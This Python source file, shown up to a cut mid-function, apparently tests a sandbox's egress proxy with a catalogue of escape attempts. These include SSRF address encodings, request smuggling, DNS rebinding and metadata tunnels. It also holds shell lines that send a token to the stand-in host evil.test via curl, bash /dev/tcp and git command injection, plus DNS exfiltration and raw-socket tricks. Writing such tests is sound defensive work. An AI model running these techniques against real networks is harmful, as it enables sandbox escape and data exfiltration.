"""Attempts to get out of a managed network, as one table, and the program that makes them.

    python3 attempts.py SETTINGS

The program runs where nothing of this repository can be imported: standard library only.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import errno
import fcntl
import functools
import json
import mmap
import os
import re
import select
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

SUCCEEDED = "it was done"
"""The result of an attempt that shows by itself that it was successful. Others return the secret of a denied
server, or what they send arrives at one."""

_AT_ONCE = 16
_SECONDS, _READ_S, _CONNECT_S = 12.0, 4.0, 4.0

LISTED, ALL, LIMITED, ANY = "listed", "all", "limited", "any"
"""Rules of a proxy, which permits ok.test and names of local addresses, all but evil.test, or reading from
ok.test. What has the rules `any` is no attempt: it is permitted by all of them."""


@dataclass(frozen=True)
class Attempt:
    """One attempt. It returns what came of it."""

    name: str
    make: Callable[[], str | bytes]
    rules: str
    """Those of the proxy inside."""

    by_proxy: bool
    """Whether it is shown outside by a proxy that permits everything, and not by a direct connection."""

    may_lack: bool
    """Whether a kernel may lack what it uses."""


ATTEMPTS: dict[str, Attempt] = {}
FACTS: dict[str, Any] = {}
"""Of the run: `token`, which is in all that an attempt sends; processes outside and paths."""

DENIED, PERMITTED, PRIVATE, METADATA = "93.184.216.66", "93.184.216.34", "10.1.2.3", "169.254.169.254"
DENIED_V6 = "2606:2800:220:1::66"
ECHO = 9999


def _add(
    name: str,
    make: Callable[[], str | bytes],
    rules: str = LISTED,
    *,
    by_proxy: bool = False,
    may_lack: bool = False,
) -> None:
    assert name not in ATTEMPTS, name
    ATTEMPTS[name] = Attempt(name, make, rules, by_proxy, may_lack)


Make = Callable[[], "str | bytes"]


def _attempt(name: str, rules: str = LISTED, **options: bool) -> Callable[[Make], Make]:
    def add(make: Make) -> Make:
        _add(name, make, rules, **options)
        return make

    return add


# ------------------------------------------------------------------ what attempts are made of


def _token() -> bytes:
    token: str = FACTS["token"]
    return token.encode()


def _proxy(variable: str) -> tuple[str, int] | None:
    host, _, port = os.environ.get(variable, "").rpartition("//")[2].rpartition(":")
    return (host, int(port)) if host else None


def _read(connection: socket.socket, until: bytes | None = None) -> bytes:
    data, end = b"", time.monotonic() + _READ_S
    with contextlib.suppress(OSError):
        while until is None or until not in data:
            connection.settimeout(max(0.01, end - time.monotonic()))
            more = connection.recv(65_536)
            if not more:
                break
            data += more
    return data


def _send(variable: str, *parts: bytes) -> bytes:
    """Send to a proxy; after each part but the last read what it answers first. `TOKEN` is replaced."""
    place = _proxy(variable)
    assert place is not None, variable
    answer = b""
    with socket.create_connection(place, _READ_S) as connection:
        for number, part in enumerate(parts):
            if number:
                answer += connection.recv(65_536)
            connection.sendall(part.replace(b"TOKEN", _token()))
        with contextlib.suppress(OSError):
            connection.shutdown(socket.SHUT_WR)
        return answer + _read(connection)


def _http(name: str, *parts: bytes, rules: str = LISTED) -> None:
    """Bytes for the HTTP proxy."""
    _add(name, lambda: _send("HTTP_PROXY", *parts), rules, by_proxy=True)


def _head(request: str, *headers: str, version: str = "1.1") -> bytes:
    """The head of a request; without headers it has the Host of its target."""
    if not headers:
        after = request.partition(" ")[2]
        headers = (f"Host: {(after.partition('//')[2] or after).partition('/')[0]}",)
    return "".join(f"{line}\r\n" for line in (f"{request} HTTP/{version}", *headers, "")).encode()


_ASK = b"GET /TOKEN HTTP/1.1\r\nHost: x\r\n\r\n"
"""What is sent through a tunnel."""


def _tunnel(name: str, authority: str, host: str | None = None, *, rules: str = LISTED) -> None:
    _http(name, _head(f"CONNECT {authority}", f"Host: {host or authority}"), _ASK, rules=rules)


def _socks(
    name: str,
    host: bytes,
    kind: int = 3,
    port: int = 80,
    *,
    rules: str = LISTED,
    methods: bytes = b"\0",
    request: bytes = _ASK,
) -> None:
    length = bytes([len(host)]) if kind == 3 else b""
    connect = bytes((5, 1, 0, kind)) + length + host + struct.pack("!H", port)
    parts = bytes((5, len(methods))) + methods, connect, request
    _add(name, lambda: _send("ALL_PROXY", *parts), rules, by_proxy=True)


def _fetch(url: str) -> bytes:
    """Get a URL by the proxy if there is one, else directly."""
    url += "" if url.endswith("/") else "/"
    if _proxy("HTTP_PROXY") is not None:
        return _send("HTTP_PROXY", _head(f"GET {url}TOKEN"))
    host = url.removeprefix("http://").partition("/")[0]
    return _direct(host.strip("[]").replace("%25", "%"), 80)


def _direct(
    host: str, port: int, family: int = 0, setup: Callable[[socket.socket], object] | None = None
) -> bytes:
    """Connect without a proxy."""
    family, kind, protocol, _, address = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
    with socket.socket(family, kind, protocol) as connection:
        connection.settimeout(_CONNECT_S)
        if setup is not None:
            setup(connection)
        connection.connect(address)
        connection.sendall(_ASK.replace(b"TOKEN", _token()))
        return _read(connection)


def _url(name: str, url: str, rules: str = LISTED) -> None:
    _add(name, lambda: _fetch(url), rules)


def _shell(name: str, script: str) -> None:
    """A script of bash; its output is what came of it."""

    def make() -> bytes:
        env = os.environ | {"TOKEN": FACTS["token"], "GIT_TERMINAL_PROMPT": "0"}
        done = subprocess.run(["bash", "-c", script], env=env, capture_output=True, timeout=_SECONDS)
        return done.stdout + done.stderr

    _add(name, make)


# ------------------------------------------------------------------ what is permitted

_http("reading from a permitted host", _head("GET http://ok.test/TOKEN"), rules=ANY)

# ------------------------------------------------------------------ literal addresses

for _name, _literal in (
    ("dotted decimal", DENIED),
    ("IPv6", f"[{DENIED_V6}]"),
    ("IPv6, written out", "[2606:2800:0220:0001:0000:0000:0000:0066]"),
    ("IPv4-mapped, in an address of IPv6", f"[::ffff:{DENIED}]"),
    ("IPv4-mapped, in hexadecimal", "[::ffff:5db8:d842]"),
    ("one decimal number", "1572395074"),
    ("one hexadecimal number", "0x5db8d842"),
    ("octal parts", "0135.0270.0330.0102"),
    ("hexadecimal parts", "0x5d.0xb8.0xd8.0x42"),
    ("mixed parts", "93.0xb8.0330.66"),
    ("three parts", "93.184.55362"),
    ("two parts", "93.12113986"),
):
    _url(f"a denied address in {_name}", f"http://{_literal}")

for _name, _host, _kind in (
    ("of IPv4", socket.inet_aton(DENIED), 1),
    ("of IPv6", socket.inet_pton(socket.AF_INET6, DENIED_V6), 4),
    ("of IPv6 with a mapped one of IPv4", socket.inet_pton(socket.AF_INET6, f"::ffff:{DENIED}"), 4),
    ("as a name", DENIED.encode(), 3),
    ("as a name, in one number", b"1572395074", 3),
):
    _socks(f"a denied address {_name} by SOCKS", _host, _kind)

for _literal in (
    "127.0.0.1",
    "127.1",
    "0177.0.0.1",
    "0x7f000001",
    "2130706433",
    "localhost",
    "0.0.0.0",
    "0",
    PRIVATE,
    "0xa010203",
    METADATA,
    "2852039166",
    "0251.0376.0251.0376",
    "100.64.0.1",
    "[::1]",
    f"[::ffff:{METADATA}]",
    "[::ffff:a01:203]",
    "[fd00::3]",
    "[64:ff9b::a01:203]",
    "[2002:a01:203::1]",
    "[fe80::3%25lo]",
):
    _url(f"the local address {_literal}, where all hosts are permitted", f"http://{_literal}", ALL)

_tunnel("a tunnel to the metadata of a cloud", f"{METADATA}:80", rules=ALL)
_tunnel("a tunnel to a port of the host's loopback", f"127.0.0.1:{ECHO}", rules=ALL)
_tunnel("a tunnel to the host's loopback by IPv6", f"[::1]:{ECHO}", rules=ALL)
_tunnel("a tunnel to the loopback by its name", f"localhost:{ECHO}", rules=ALL)
_tunnel("a tunnel to the name server of the host", "127.0.0.53:80", rules=ALL)
_socks("the metadata of a cloud by SOCKS", socket.inet_aton(METADATA), 1, rules=ALL)
_socks("a mapped local address by SOCKS", socket.inet_pton(socket.AF_INET6, "::ffff:10.1.2.3"), 4, rules=ALL)
_socks("the loopback of the host by SOCKS", b"127.1", rules=ALL)

# ------------------------------------------------------------------ names

for _name in (
    "private",
    "metadata",
    "loopback",
    "shared",
    "unspecified",
    "unique-local",
    "nat64",
    "6to4",
    "mapped",
    "mixed",
    "hosts-file",
):
    _url(f"the permitted name {_name}.test of a local address", f"http://{_name}.test")
_socks("a permitted name of a local address by SOCKS", b"private.test")
_tunnel("a tunnel to a permitted name of a local address", "private.test:80")


@_attempt("a permitted name whose address is a local one the second time")
def _rebinding() -> bytes:
    url = f"http://{_token().decode()}.rebinding.test"
    return b"".join(_fetch(url) for _ in range(3))


@_attempt("many questions at once about a name that changes its address")
def _rebinding_at_once() -> bytes:
    url = f"http://{_token().decode()}.rebinding.test"
    if _proxy("HTTP_PROXY") is None:
        return _fetch(url) + _fetch(url)
    place = _proxy("HTTP_PROXY")
    connections = [socket.create_connection(place or ("", 0), _READ_S) for _ in range(8)]
    for connection in connections:
        connection.sendall(_head(f"GET {url}/"))
        connection.shutdown(socket.SHUT_WR)
    return b"".join(_read(connection) for connection in connections)


for _name, _text in (
    ("with a final dot", "evil.test."),
    ("in capitals", "EVIL.Test"),
    ("below it", "a.b.evil.test"),
    ("which the resolver completes", "a.b"),
    ("which the resolver completes, without a dot", "a"),
    ("as long as a name can be", ".".join(["a" * 60] * 3 + ["b" * 59, "evil.test"])),
):
    _url(f"a denied name {_name}", f"http://{_text}", ALL)

for _name, _text in (
    ("in full-width letters", "\uff45\uff56\uff49\uff4c.test"),
    ("with an ideographic full stop", "evil。test"),
    ("with a full-width dot", "evil\uff0etest"),
    ("with a soft hyphen", "ev\u00adil.test"),
    ("with a letter of mathematics", "\U0001d41evil.test"),
):
    _socks(f"a denied name {_name} by SOCKS", _text.encode(), rules=ALL)
    _http(f"a denied name {_name}", _head(f"GET http://{_text}/TOKEN"), rules=ALL)
_http("a denied name with an escaped letter", _head("GET http://ev%69l.test/TOKEN"), rules=ALL)
_tunnel("a tunnel to a denied name with a final dot", "evil.test.:80", rules=ALL)

for _name, _bytes in (
    ("a NUL", b"evil.test\0.ok.test"),
    ("a CR", b"evil.test\r.ok.test"),
    ("a LF", b"evil.test\n.ok.test"),
    ("CRLF and a header", b"evil.test\r\nHost: ok.test"),
    ("a space", b"evil.test ok.test"),
    ("a tab", b"evil.test\tok.test"),
    ("a port", b"evil.test:80"),
    ("an at sign", b"ok.test@evil.test"),
    ("a NUL at its end", b"evil.test\0"),
    ("an escape", b"evil.test%00.ok.test"),
):
    _socks(f"{_name} in a name of SOCKS", _bytes, rules=ALL)

_socks("a denied name by SOCKS", b"evil.test")
_socks("a denied name by SOCKS, with a method that is not served", b"evil.test", methods=b"\2")

# ------------------------------------------------------------------ requests of HTTP

for _name, _target in (
    ("behind an at sign", "http://ok.test@evil.test/TOKEN"),
    ("behind a user and a password", "http://ok.test:80@evil.test/TOKEN"),
    ("behind two at signs", "http://ok.test@ok.test@evil.test/TOKEN"),
    ("before a backslash", "http://evil.test\\@ok.test/TOKEN"),
    ("before a fragment", "http://evil.test#@ok.test/TOKEN"),
    ("before a NUL", "http://evil.test\0.ok.test/TOKEN"),
    ("before an escaped NUL", "http://evil.test%00.ok.test/TOKEN"),
    ("before a tab", "http://evil.test\t.ok.test/TOKEN"),
    ("of another scheme", "ftp://evil.test:80/TOKEN"),
    ("of https", "https://evil.test:80/TOKEN"),
    ("with a port beyond the last", "http://evil.test:65616/TOKEN"),
    ("with the port 0", "http://evil.test:0/TOKEN"),
):
    _http(f"a denied host {_name}", _head(f"GET {_target}", "Host: ok.test"), rules=ALL)

_OK, _EVIL = "Host: ok.test", "Host: evil.test"
_PLAIN = "GET http://ok.test/TOKEN"
_HIDDEN = _head("GET http://evil.test/TOKEN", _EVIL)
_HOMOGRAPH = "\u043ek.test"
"""It looks like ok.test, and is xn--k-0tb.test."""
_WEBSOCKET = (
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)

for _name, _bytes in (
    ("a denied target with a permitted Host", _head("GET http://evil.test/TOKEN", _OK)),
    ("a permitted target with a denied Host", _head(_PLAIN, _EVIL)),
    ("a denied Host without a target", _head("GET /TOKEN", _EVIL)),
    ("a denied Host behind a permitted one", _head(_PLAIN, _OK, _EVIL)),
    ("a denied Host with a space before its colon", _head(_PLAIN, _OK, "Host : evil.test")),
    ("a denied Host in a folded header", _head(_PLAIN, _OK, "X: y", f" {_EVIL}")),
    ("a denied Host behind a bare CR", _head(_PLAIN, _OK, f"X: y\r{_EVIL}")),
    ("a denied Host of HTTP/1.0", _head(_PLAIN, _EVIL, version="1.0")),
    ("a WebSocket of a denied host", _head("GET http://evil.test/TOKEN", _EVIL, *_WEBSOCKET)),
    ("a name that looks like a permitted one", _head(f"GET http://{_HOMOGRAPH}/TOKEN")),
    ("the same name by IDNA", _head("GET http://xn--k-0tb.test/TOKEN")),
    ("a request by HTTP/0.9", b"GET http://evil.test/TOKEN\r\n"),
    ("data in a name that is not permitted", _head("GET http://TOKEN.evil.test/")),
):
    _http(_name, _bytes)

_socks("a name that looks like a permitted one by SOCKS", _HOMOGRAPH.encode())
_tunnel("a tunnel to a denied host", "evil.test:80")
_tunnel("a tunnel to a denied target with a permitted Host", "evil.test:80", "ok.test:80")
_tunnel("a tunnel to a permitted target with a denied Host", "ok.test:80", "evil.test:80")
_tunnel("a tunnel to a denied host behind an at sign", "ok.test:80@evil.test:80")
_tunnel("a tunnel to a port beyond the last", "evil.test:65616", rules=ALL)
_tunnel("a tunnel with two targets", "evil.test:80 ok.test:80")
_tunnel("data in a name for a tunnel that is not permitted", "TOKEN.evil.test:80")


def _post(*headers: str) -> bytes:
    return _head("POST http://ok.test/", _OK, *headers)


_CHUNKED, _NO_CHUNKS = "Transfer-Encoding: chunked", b"0\r\n\r\n"
for _name, _before in (
    ("a body of no chunks, with a length", _post("Content-Length: 5", _CHUNKED) + _NO_CHUNKS),
    ("two lengths", _post("Content-Length: 0", "Content-Length: 60")),
    ("a list of lengths", _post("Content-Length: 0, 60")),
    ("a length with a sign", _post("Content-Length: +0")),
    ("an encoding in disguise", _post("Transfer-Encoding: xchunked")),
    ("a folded encoding", _post("Transfer-Encoding:", " chunked") + _NO_CHUNKS),
    ("a chunk without a size", _post(_CHUNKED) + b"-1\r\n\r\n"),
    ("a chunk of more than all bytes", _post(_CHUNKED) + b"10000000000000000\r\n\r\n"),
    ("a last chunk with an extension", _post(_CHUNKED) + b"0;\n\r\n\r\n"),
    ("a trailer with a length", _post(_CHUNKED) + b"0\r\nContent-Length: 60\r\n\r\n"),
    ("a bare CR", _post("X: y\rContent-Length: 0")),
    ("bare LFs", b"POST http://ok.test/ HTTP/1.1\nHost: ok.test\n\n"),
    ("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    (
        "an upgrade to HTTP/2",
        _post("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMA"),
    ),
    ("a request that expects to continue", _post("Expect: 100-continue", "Content-Length: 0")),
    ("a permitted one in a pipeline", _head("GET http://ok.test/")),
    ("an answer of the proxy in a pipeline", _head("GET http://evil.test./")),
):
    _http(f"a request to a denied host behind {_name}", _before + _HIDDEN)

_http(
    "a tunnel to a denied host behind a permitted request",
    _head("GET http://ok.test/"),
    _head("CONNECT evil.test:80") + _HIDDEN,
)
_http("a request to a denied host on a kept connection", _head("GET http://ok.test/"), _HIDDEN)
_add(
    "a Unix socket of the host by a header",
    lambda: _send("HTTP_PROXY", _head(_PLAIN, _OK, f"X-Unix-Socket: {FACTS['socket']}")),
    by_proxy=True,
)

_WRITE = b"POST /TOKEN HTTP/1.1\r\nHost: ok.test\r\n\r\n"
for _name, _parts in {
    "writing": (_head("POST http://ok.test/TOKEN", _OK, "Content-Length: 0"),),
    "writing in a pipeline": (_head("GET http://ok.test/") + _head("DELETE http://ok.test/TOKEN"),),
    "writing behind a body of no chunks": (
        _head("GET http://ok.test/", _OK, "Content-Length: 5", _CHUNKED) + _NO_CHUNKS,
        _head("POST http://ok.test/TOKEN"),
    ),
    "a method in small letters": (_head("pOST http://ok.test/TOKEN") + _head("PUT http://ok.test/TOKEN"),),
    "a tunnel": (_head("CONNECT ok.test:80"), _WRITE),
    "a WebSocket": (_head("GET http://ok.test/", _OK, *_WEBSOCKET), b"TOKEN"),
}.items():
    _http(f"{_name}, on a host that may only be read", *_parts, rules=LIMITED)
_socks("SOCKS, on a host that may only be read", b"ok.test", rules=LIMITED, request=_WRITE)

# ------------------------------------------------------------------ other commands of SOCKS


def _socks_command(name: str, command: int) -> None:
    def make() -> str:
        with socket.create_connection(_proxy("ALL_PROXY") or ("", 0), _READ_S) as connection:
            connection.sendall(b"\5\1\0")
            connection.recv(2)
            connection.sendall(bytes((5, command, 0, 1)) + socket.inet_aton(DENIED) + b"\0\x50")
            return SUCCEEDED if connection.recv(10)[1:2] == b"\0" else "refused"

    _add(name, make, ALL, by_proxy=True)


def _socks4(name: str, rest: bytes) -> None:
    _add(name, lambda: _send("ALL_PROXY", b"\4\1\0\x50" + rest, _ASK), by_proxy=True)


_socks_command("BIND of SOCKS", 2)
_socks_command("UDP ASSOCIATE of SOCKS", 3)
_socks4("SOCKS, version 4", socket.inet_aton(DENIED) + b"user\0")
_socks4("SOCKS, version 4a", b"\0\0\0\1user\0evil.test\0")

# ------------------------------------------------------------------ past the proxy


def _with_option(level: int, option: int, value: bytes) -> bytes:
    return _direct(DENIED, 80, setup=lambda one: one.setsockopt(level, option, value))


_add("a direct connection", lambda: _direct(DENIED, 80))
_add("a direct connection by IPv6", lambda: _direct(DENIED_V6, 80))
_add("a direct connection to a mapped address", lambda: _direct(f"::ffff:{DENIED}", 80, socket.AF_INET6))
_add("the loopback of the host", lambda: _direct("127.0.0.1", 80))
_add("the loopback of the host by IPv6", lambda: _direct("::1", 80))
_add("the open proxy of another process", lambda: _through_another_proxy())
for _name, _level, _option, _value in (
    ("from a chosen device", socket.SOL_SOCKET, 25, b"lo\0"),  # SO_BINDTODEVICE
    ("with a mark for routing", socket.SOL_SOCKET, 36, b"\7\0\0\0"),  # SO_MARK
    ("as a transparent proxy", socket.SOL_IP, 19, b"\1\0\0\0"),  # IP_TRANSPARENT
    ("by a source route", socket.SOL_IP, 4, b"\1\1\1\1"),  # IP_OPTIONS
):
    _option_of = functools.partial(_with_option, _level, _option, _value)
    _add(f"a direct connection {_name}", _option_of)


def _through_another_proxy() -> bytes:
    with socket.create_connection(("127.0.0.1", 3128), _READ_S) as connection:
        connection.sendall(_HIDDEN.replace(b"TOKEN", _token()))
        return _read(connection)


@_attempt("the repair mode of TCP", may_lack=True)
def _repair() -> str:
    with socket.socket() as connection:
        connection.setsockopt(socket.IPPROTO_TCP, 19, 1)
        return SUCCEEDED


@_attempt("data with the first packet of a connection")
def _fast_open() -> bytes:
    with socket.socket() as connection:
        connection.sendto(_token(), socket.MSG_FASTOPEN, (DENIED, ECHO))
        return _read(connection)


@_attempt("data with the first packet of a connection, by sendmsg")
def _fast_open_by_message() -> bytes:
    with socket.socket() as connection:
        connection.sendmsg([_token()], [], socket.MSG_FASTOPEN, (DENIED, ECHO))
        return _read(connection)


@_attempt("the port of the proxy", by_proxy=True)
def _listen_on_port() -> str:
    """A listener in its place would hear what other processes of the command send."""
    port = (_proxy("HTTP_PROXY") or ("", 0))[1]
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        # Outside it is taken on another address of the same device.
        one.bind(("127.0.0.1", port + (1 if FACTS["outside"] else 0)))
        one.listen()
        return SUCCEEDED


_CURL = "curl -sS -m 5"
_DIRECT = f"{_CURL} --noproxy '*'"
_WITHOUT = "env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy"
for _name, _script in {
    "curl without the variables": f"{_WITHOUT} {_CURL} http://evil.test/$TOKEN",
    "curl that uses no proxy": f"{_DIRECT} http://evil.test/$TOKEN",
    "a variable that excludes the host": f"no_proxy=evil.test {_CURL} http://evil.test/$TOKEN",
    "a variable with another proxy": f"http_proxy=http://{DENIED}:3128 {_CURL} http://evil.test/$TOKEN",
    "another proxy of SOCKS": f"{_CURL} -x socks5h://{DENIED}:1080 http://evil.test/$TOKEN",
    "curl that knows the address": f"{_CURL} --resolve ok.test:80:{DENIED} http://ok.test/$TOKEN",
    "curl that knows the address, by SOCKS": (
        f'{_CURL} ${{ALL_PROXY:+-x "${{ALL_PROXY/5h/5}}"}} --resolve ok.test:80:{DENIED} http://ok.test/$TOKEN'
    ),
    "curl that connects to another host": f"{_CURL} --connect-to ok.test:80:evil.test:80 -p http://ok.test/$TOKEN",
    "a redirection to a denied host": f"{_CURL} -L http://ok.test/?to=http://evil.test/$TOKEN",
    "a redirection to a local address": f"{_CURL} -L http://ok.test/?to=http://{METADATA}/$TOKEN",
    "a redirection from https": f"{_CURL} -k -L https://ok.test/?to=https://evil.test/$TOKEN",
    "DNS over HTTPS": f"{_CURL} -k -d $TOKEN https://evil.test/dns-query/$TOKEN",
    "a connection of bash": (
        f"exec 3<>/dev/tcp/{DENIED}/80; printf 'GET /%s HTTP/1.1\\r\\n\\r\\n' $TOKEN >&3; "
        "timeout 3 head -5 <&3"
    ),
    "a datagram of bash": f"echo $TOKEN >/dev/udp/{DENIED}/9999",
    "git without a proxy": "git -c http.proxy= ls-remote http://evil.test/$TOKEN",
    "git by its own protocol": f"git ls-remote git://{DENIED}:9999/$TOKEN",
    "git with a command for ssh": (
        f'git -c core.sshCommand="{_DIRECT} http://evil.test/$TOKEN #" ls-remote ssh://evil.test/x'
    ),
    "git with a command for ssh that uses the proxy": (
        f'git -c core.sshCommand="{_CURL} http://evil.test/$TOKEN #" ls-remote ssh://ok.test/x'
    ),
    "git with a command for its proxy": (
        f'echo "{_DIRECT} http://{DENIED}/$TOKEN >&2" >$TMPDIR/$TOKEN; chmod +x $TMPDIR/$TOKEN; '
        "GIT_PROXY_COMMAND=$TMPDIR/$TOKEN git ls-remote git://evil.test/x"
    ),
}.items():
    _shell(_name, _script)

# ------------------------------------------------------------------ names without the proxy


def _question(kind: int = 16) -> bytes:
    labels = (_token(), b"evil", b"test")
    name = b"".join(bytes([len(label)]) + label for label in labels)
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", kind, 1)


@_attempt("a name in the system's resolver")
def _resolver() -> str:
    return str(socket.getaddrinfo(f"{FACTS['token']}.evil.test", 80))


@_attempt("DNS over UDP")
def _dns() -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(_READ_S)
        one.sendto(_question(), ("127.0.0.53", 53))
        return one.recv(4096)


@_attempt("DNS over TCP")
def _dns_over_tcp() -> bytes:
    with socket.create_connection(("127.0.0.53", 53), _READ_S) as one:
        one.sendall(struct.pack("!H", len(_question())) + _question())
        return one.recv(4096)


def _dns_in_a_tunnel() -> bytes:
    question = struct.pack("!H", len(_question())) + _question()
    return _send("HTTP_PROXY", _head("CONNECT 127.0.0.53:53"), question)


_add("DNS over TCP in a tunnel", _dns_in_a_tunnel, ALL, by_proxy=True)
# ------------------------------------------------------------------ sockets of other kinds


@_attempt("a datagram")
def _udp() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(_token(), (DENIED, ECHO))
    return "sent"


@_attempt("a datagram by IPv6")
def _udp6() -> str:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.sendto(_token(), (DENIED_V6, ECHO))
    return "sent"


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - (total + (total >> 16)) % 0x10000


def _ping(kind: int) -> str:
    body = struct.pack("!BBHHH", 8, 0, 0, 5, 1) + b"12345678"
    body = body[:2] + struct.pack("!H", _checksum(body)) + body[4:]
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as one:
        one.settimeout(_READ_S)
        one.sendto(body, (DENIED, 0))
        return SUCCEEDED if one.recvfrom(4096)[1][0] == DENIED else "no answer"


_add("a ping by a raw socket", lambda: _ping(socket.SOCK_RAW))


@_attempt("a raw socket with a header of its own")
def _raw() -> str:
    packet = struct.pack("!HHHH", 5000, ECHO, 8 + len(_token()), 0) + _token()
    addresses = socket.inet_aton(DENIED) * 2
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(packet), 1, 0, 64, 17, 0) + addresses
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        one.sendto(head + packet, (DENIED, 0))
    return "sent"


def _made(*kind: int) -> str:
    """Sockets that show by their existence what they could do: those who have them need no address of IP."""
    socket.socket(*kind).close()
    return SUCCEEDED


_add("a packet socket", lambda: _made(17, socket.SOCK_RAW, 0x300))
_add("a socket of virtual machines", lambda: _made(40, socket.SOCK_STREAM), may_lack=True)
_add("a socket of SCTP", lambda: _made(socket.AF_INET, socket.SOCK_STREAM, 132), may_lack=True)
_add("a socket of DCCP", lambda: _made(socket.AF_INET, 6, 33), may_lack=True)
_add("a socket of SMC", lambda: _made(43, socket.SOCK_STREAM), may_lack=True)
_add("a socket of TIPC", lambda: _made(30, socket.SOCK_STREAM), may_lack=True)
_add("a socket of Bluetooth", lambda: _made(31, socket.SOCK_STREAM, 3), may_lack=True)
_add("a socket of CAN", lambda: _made(29, socket.SOCK_RAW, 1), may_lack=True)
_add("a socket of the kernel's cryptography", lambda: _made(38, socket.SOCK_SEQPACKET), may_lack=True)
_add("a datagram of UDP-Lite", lambda: _made(socket.AF_INET, socket.SOCK_DGRAM, 136), may_lack=True)


def _code(machine: str, code: bytes) -> str:
    """Run machine code that returns a descriptor or a negative errno."""
    if os.uname().machine != machine:
        raise OSError(errno.ENOSYS, "this is another machine")
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    result: int = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if result < 0:
        raise OSError(-result, "socket")
    return SUCCEEDED


# socket(AF_UNIX, SOCK_STREAM, 0): of i386 by `int 0x80`, and of x32 by a number with another bit.
_I386 = bytes.fromhex("53 b867010000 bb01000000 b901000000 31d2 cd80 5b c3")
_X32 = bytes.fromhex("b829000040 bf01000000 be01000000 31d2 0f05 c3")
_add("a Unix socket by a call of 32 bits", lambda: _code("x86_64", _I386), may_lack=True)
_add("a Unix socket by a call of x32", lambda: _code("x86_64", _X32), may_lack=True)


@_attempt("a connection by several paths", may_lack=True)
def _multipath() -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as one:
        one.settimeout(_READ_S)
        one.connect((DENIED, ECHO))
        one.sendall(_token())
        return _read(one)


@_attempt("the devices of the network by netlink")
def _netlink() -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.settimeout(_READ_S)
        one.sendto(struct.pack("=IHHII", 32, 18, 0x301, 1, 0) + bytes(16), (0, 0))
        return SUCCEEDED if b"lo\0" in one.recv(65_536) else "no answer"


@_attempt("a further address for a device")
def _ioctl() -> str:
    with socket.socket() as one:
        fcntl.ioctl(one, 0x8916, struct.pack("16sHH4s8s", b"lo:9", 2, 0, socket.inet_aton("198.18.0.9"), b""))
    return SUCCEEDED


@_attempt("a device of a tunnel", may_lack=True)
def _tun() -> str:
    with open("/dev/net/tun", "r+b", buffering=0) as device:
        fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"", 0x1001))
    return SUCCEEDED


# ------------------------------------------------------------------ Unix sockets


def _unix(address: str) -> bytes:
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(_READ_S)
        one.connect(address)
        one.sendall(_token())
        return _read(one)


_add("a Unix socket by its path", lambda: _unix(FACTS["socket"]))
_add("an abstract Unix socket", lambda: _unix(f"\0{FACTS['abstract']}"))


def _datagrams(one: socket.socket) -> str:
    with one:
        one.sendto(_token(), FACTS["datagrams"])
    return "sent"


def _half_of_a_pair() -> socket.socket:
    return socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]


def _message(one: socket.socket) -> str:
    with one:
        one.sendmsg([_token()], [], 0, FACTS["datagrams"])
    return "sent"


_add("a Unix datagram", lambda: _datagrams(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)))
_add("a pair of datagrams with an address", lambda: _datagrams(_half_of_a_pair()))
_add("a pair of datagrams, by sendmsg", lambda: _message(_half_of_a_pair()))


@_attempt("a pair that is connected anew")
def _pair_anew() -> str:
    with _half_of_a_pair() as one:
        one.connect(FACTS["datagrams"])
        one.send(_token())
    return "sent"


@_attempt("a connection from another process by SCM_RIGHTS")
def _rights() -> bytes:
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(_READ_S)
        one.connect(FACTS["descriptors"])
        _, descriptors, _, _ = socket.recv_fds(one, 10, 1)
    with socket.socket(fileno=descriptors[0]) as given:
        given.sendall(_token())
        return _read(given)


@_attempt("a connection that a process outside has open")
def _taken() -> bytes:
    library = ctypes.CDLL(None, use_errno=True)
    process = os.pidfd_open(FACTS["holder"])
    taken = library.syscall(438, process, FACTS["held"], 0)
    if taken < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    with socket.socket(fileno=taken) as one:
        one.sendall(_token())
        return _read(one)


@_attempt("a request to the daemon, which fetches a page")
def _daemon() -> bytes:
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(_READ_S)
        one.connect(FACTS["daemon"])
        fetch = {
            "requestId": "r",
            "method": "GET",
            "url": f"http://evil.test/{FACTS['token']}",
            "headers": [],
        }
        for message in (
            {"id": 1, "method": "initialize", "params": {"clientName": "attempt"}},
            {"method": "initialized"},
